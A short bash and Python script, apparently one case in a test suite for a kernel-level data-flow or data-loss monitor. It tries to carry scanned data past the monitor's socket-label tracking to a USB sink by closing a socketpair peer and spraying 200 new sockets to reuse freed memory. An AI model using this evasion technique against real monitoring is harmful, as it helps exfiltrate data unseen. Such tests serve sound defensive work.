#!/usr/bin/env bash
# technique: one recv that waits in a socketpair, which is gone, and its memory used again, before the USB file is opened
# hooks: socket_recvmsg, sk_free_security (what was in the socket is kept), file_open
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *

ours, theirs = socket.socketpair()


def send():
    time.sleep(0.5)
    theirs.sendall(scan()[:60000])


sender = apart(send)
theirs.close()
data = ours.recv(1 << 16)
ours.close()
os.waitpid(sender, 0)
time.sleep(0.5)
others = [socket.socketpair() for _ in range(200)]
keep(data)
PY
